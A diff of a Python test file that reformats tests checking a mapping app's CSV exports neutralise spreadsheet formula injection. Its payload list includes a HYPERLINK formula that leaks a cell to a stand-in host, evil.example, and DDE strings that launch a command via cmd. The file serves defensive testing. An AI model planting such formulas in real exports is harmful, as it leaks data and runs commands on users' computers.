@@ -3,6 +3,7 @@
 Before the fix, a resident's place named =HYPERLINK(...) reached /export/assets.csv unchanged, and the
 CSV's Content-Type said charset twice.
 """
+
 from __future__ import annotations
 
 import csv
@@ -11,12 +12,18 @@ import io
 import pytest
 from sqlalchemy import select
 
-from webmap.core.db import db
 from webmap.core.csvsafe import neutralise_cell
+from webmap.core.db import db
 from webmap.core.models import Asset
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -40,8 +47,9 @@ def _plant(app, **fields) -> int:
 
 @pytest.mark.parametrize("bom", ["", "?bom=1"])
 def test_asset_csv_neutralises_resident_text(sample_app, bom):
-    asset_id = _plant(sample_app, name=PAYLOADS[0], description="+44 is our code", address="-1 floor",
-                      opening_times="@noon")
+    asset_id = _plant(
+        sample_app, name=PAYLOADS[0], description="+44 is our code", address="-1 floor", opening_times="@noon"
+    )
     response = sample_app.test_client().get(f"/export/assets.csv{bom}")
     assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
     rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig")))}
@@ -93,8 +101,14 @@ CSV_ROUTES = {
     "privacy.download": "POST /privacy/requests/download",
 }
 # Every command that writes a file, and the CSV it writes (backup writes a SQLite database, never CSV).
-CSV_COMMANDS = {"export": "--out x.csv", "gaps": "--out x.csv", "import-assets": "--rejects",
-                "import-wards": "--rejects", "import-postcodes": "--rejects", "import-needs": "--rejects"}
+CSV_COMMANDS = {
+    "export": "--out x.csv",
+    "gaps": "--out x.csv",
+    "import-assets": "--rejects",
+    "import-wards": "--rejects",
+    "import-postcodes": "--rejects",
+    "import-needs": "--rejects",
+}
 NOT_CSV = {"backup"}
 
 
@@ -104,13 +118,18 @@ def _cells(text: str) -> list[str]:
 
 def _formula_cells(text: str) -> list[str]:
     """Return the cells a spreadsheet would run as formulas."""
-    return [c for c in _cells(text) if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", c)]
+    return [
+        c for c in _cells(text) if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", c)
+    ]
 
 
 def test_no_code_but_csvsafe_writes_csv():
     writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
-    found = [str(p.relative_to(REPO)) for p in (REPO / "webmap").rglob("*.py")
-             if p.name != "csvsafe.py" and writers.search(p.read_text(encoding="utf-8"))]
+    found = [
+        str(p.relative_to(REPO))
+        for p in (REPO / "webmap").rglob("*.py")
+        if p.name != "csvsafe.py" and writers.search(p.read_text(encoding="utf-8"))
+    ]
     assert found == []
 
 
@@ -145,9 +164,15 @@ def _plant_everywhere(app) -> dict:
         asset.submitter_email, asset.submitter_name = "resident@example.org", AT_FORMULA
         for need in db.session.scalars(select(Need)):
             need.source = AT_FORMULA
-        job = ImportJob(kind="places", filename="places.csv", sha256="0" * 64, size_bytes=1, actor="test",
-                        state="checked", preview={"problems": [["places.csv", 2, "name", FORMULA], ["places.csv", 3,
-                                                                                                   "phone", AT_FORMULA]]})
+        job = ImportJob(
+            kind="places",
+            filename="places.csv",
+            sha256="0" * 64,
+            size_bytes=1,
+            actor="test",
+            state="checked",
+            preview={"problems": [["places.csv", 2, "name", FORMULA], ["places.csv", 3, "phone", AT_FORMULA]]},
+        )
         db.session.add(job)
         db.session.commit()
         return {"ward": ward.code, "job": job.id, "lon": asset.lon, "lat": asset.lat}
@@ -167,8 +192,10 @@ def test_every_csv_route_neutralises_formulas(sample_app, endpoint):
     target = CSV_ROUTES[endpoint].format(**planted)
     if target.startswith("POST "):
         path = target.split()[1]
-        response = client.post(path, data={"csrf_token": csrf_token(client, "/privacy/requests"),
-                                           "q": "resident@example.org", "format": "csv"})
+        response = client.post(
+            path,
+            data={"csrf_token": csrf_token(client, "/privacy/requests"), "q": "resident@example.org", "format": "csv"},
+        )
     else:
         response = client.get(target)
     assert response.status_code == 200, response.get_data(as_text=True)[:500]
@@ -194,9 +221,17 @@ def test_cli_csv_commands_neutralise_formulas(sample_app, tmp_path):
 
 def _mixed_places(tmp_path: Path, planted: dict) -> Path:
     path = tmp_path / "mixed.csv"
-    path.write_text(csv_text([["Good hall", "community_space", planted["lon"], planted["lat"], "01632 960001"],
-                              [FORMULA, "community_space", "abc", planted["lat"], AT_FORMULA]],
-                             header=["name", "category", "longitude", "latitude", "phone"]).replace("\"'", "\"").replace(",'", ","))
+    path.write_text(
+        csv_text(
+            [
+                ["Good hall", "community_space", planted["lon"], planted["lat"], "01632 960001"],
+                [FORMULA, "community_space", "abc", planted["lat"], AT_FORMULA],
+            ],
+            header=["name", "category", "longitude", "latitude", "phone"],
+        )
+        .replace("\"'", '"')
+        .replace(",'", ",")
+    )
     return path
 
 
@@ -222,6 +257,8 @@ def test_rejects_csv_of_the_browser_import_neutralises_formulas(sample_app, tmp_
 
 
 def test_writer_quotes_and_keeps_numbers():
-    text = csv_text([[1, -2.5, "-2.5", "a,b", None, float("nan"), "+44 1632"]], header=["id", "lon", "raw", "t", "n", "f", "p"])
-    assert text.splitlines()[1] == "1,-2.5,-2.5,\"a,b\",,,'+44 1632"
+    text = csv_text(
+        [[1, -2.5, "-2.5", "a,b", None, float("nan"), "+44 1632"]], header=["id", "lon", "raw", "t", "n", "f", "p"]
+    )
+    assert text.splitlines()[1] == '1,-2.5,-2.5,"a,b",,,\'+44 1632'
     assert text.endswith("\r\n")
